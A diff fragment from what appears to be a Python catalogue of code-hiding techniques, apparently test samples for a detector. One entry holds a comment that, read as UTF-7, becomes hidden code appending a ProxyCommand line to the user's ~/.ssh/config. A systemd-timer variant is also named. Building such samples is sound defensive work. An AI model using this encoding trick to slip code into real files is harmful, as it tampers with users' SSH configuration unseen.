@@ -82,7 +82,8 @@ class Hook:
 
 typing.get_type_hints(Hook)
 """),
-    Spelling("source-encoding", "a comment that is code in the encoding that the file says", r"""# coding: utf-7
+    Spelling("source-encoding", "a comment that is code in the file's own encoding", r"""
+# coding: utf-7
 # Writes the report. +AAoAbwBw-en('@HOME@/.s+AHM-h/config', 'a').write('ProxyCommand echo @TOKEN@')
 """),
     Spelling("timer", "a timer of systemd, by a shell found by operator", r"""
